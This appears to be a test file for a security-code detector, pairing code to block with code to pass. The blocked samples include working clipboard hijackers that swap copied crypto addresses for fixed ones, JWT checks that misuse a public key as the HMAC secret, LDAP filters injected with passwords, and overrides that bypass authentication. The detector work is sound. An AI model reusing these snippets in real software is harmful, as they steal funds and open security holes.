import { type AppsecCase, runCases } from "./_appsec_testing.ts";

const CASES: AppsecCase[] = [
  {
    id: "jwt.hmac_with_public_key",
    block: [
      // Node: HS256 tokens checked with the RSA public key as HMAC secret
      `const publicKey = fs.readFileSync('keys/jwt.pub');\nfunction check(token) {\n  const [h, p, s] = token.split('.');\n  const mac = crypto.createHmac('sha256', publicKey).update(h + '.' + p).digest('base64url');\n  return mac === s;\n}\n`,
      // PyJWT accepting HS256 with the public key
      `claims = jwt.decode(token, settings.PUBLIC_KEY, algorithms=["RS256", "HS256"])\n`,
      // Go
      `pubPEM, _ := os.ReadFile("/etc/keys/signing_pub.pem")\nmac := hmac.New(sha256.New, pubPEM)\nmac.Write([]byte(signingInput))\n`,
      // Java
      `Mac mac = Mac.getInstance("HmacSHA256");\nmac.init(new SecretKeySpec(publicKey.getEncoded(), "HmacSHA256"));\n`,
    ],
    pass: [
      // HMAC with a shared secret
      `mac = hmac.new(settings.WEBHOOK_SECRET.encode(), body, hashlib.sha256).hexdigest()\n`,
      // RS256 only with the public key
      `claims = jwt.decode(token, PUBLIC_KEY, algorithms=["RS256"], audience="api")\n`,
      // a pub/sub signing secret (not a public key)
      `const sig = crypto.createHmac('sha256', pubsubSecret).update(raw).digest('hex');\n`,
    ],
  },
  {
    id: "js.clipboard_address_swap",
    block: [
      // Electron clipboard watcher
      `const { clipboard } = require('electron');\nconst ETH = /^0x[a-fA-F0-9]{40}$/;\nsetInterval(() => {\n  if (ETH.test(clipboard.readText().trim())) clipboard.writeText('0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063');\n}, 500);\n`,
      // Python pyperclip
      `import re, time, pyperclip\nBTC = re.compile(r'^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$')\nwhile True:\n    if BTC.match(pyperclip.paste()):\n        pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')\n    time.sleep(1)\n`,
      // browser copy event, TRON
      `document.addEventListener('copy', (e) => {\n  const t = String(getSelection());\n  if (/^T[1-9A-HJ-NP-Za-km-z]{33}$/.test(t)) {\n    e.clipboardData.setData('text/plain', 'TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE');\n    e.preventDefault();\n  }\n});\n`,
    ],
    pass: [
      // a donation button copying the project's own address (no address recognition)
      `copyBtn.onclick = () => navigator.clipboard.writeText('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq');\n`,
      // validating a pasted address and copying the user's own input back
      `const ETH = /^0x[a-fA-F0-9]{40}$/;\nif (ETH.test(input.value)) await navigator.clipboard.writeText(input.value.trim());\n`,
      // an address validator with no clipboard at all
      `const ETH = /^0x[a-fA-F0-9]{40}$/;\nexport const treasury = '0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063';\nexport const valid = (a) => ETH.test(a);\n`,
    ],
  },
  {
    id: "ldap.password_in_filter",
    block: [
      // Java
      `String filter = "(&(sAMAccountName=" + user + ")(userPassword=" + pass + "))";\nNamingEnumeration<SearchResult> r = ctx.search("dc=corp,dc=local", filter, controls);\n`,
      // PHP
      `$f = "(&(uid=$login)(userPassword=$pw))";\n$sr = ldap_search($conn, "ou=people,dc=shop,dc=de", $f);\nreturn ldap_count_entries($conn, $sr) > 0;\n`,
      // Node template string
      "const filter = `(&(mail=${email})(userPassword=${password}))`;\nclient.search(base, { filter }, done);\n",
      // Python %-format
      `flt = "(&(uid=%s)(userPassword=%s))" % (username, password)\nconn.search(BASE, flt)\n`,
    ],
    pass: [
      // a bind with the user's own DN and password
      `conn = Connection(server, user=f"uid={escape_rdn(login)},ou=people,dc=x", password=pw)\nreturn conn.bind()\n`,
      // the attribute listed for a password-change form, no filter built from input
      `ATTRS = ["uid", "mail", "userPassword"]\nconn.modify(dn, {"userPassword": [(MODIFY_REPLACE, [hashed])]})\n`,
      // a documentation comment mentioning the attribute
      `# userPassword is never readable by this service account (ACL in slapd.conf)\nconn.search(BASE, "(uid=" + escape_filter_chars(u) + ")")\n`,
    ],
  },
  {
    id: "py.auth_dependency_override",
    block: [
      `app = FastAPI()\napp.dependency_overrides[verify_token] = lambda: {"sub": "ops", "scopes": ["*"]}\n`,
      `if os.environ.get("STAGE") != "live":\n    app.dependency_overrides[require_admin] = lambda: True\n`,
      `api.dependency_overrides[auth.current_principal] = lambda: Principal(id=0, roles=["root"])\n`,
    ],
    pass: [
      `if os.getenv("ENV") == "local":\n    app.dependency_overrides[get_current_user] = lambda: User(id=1, role="viewer")\n`,
      `app.dependency_overrides[get_db] = override_get_db\n`,
      `app.dependency_overrides.clear()\n`,
    ],
  },
];

runCases("r46", CASES);
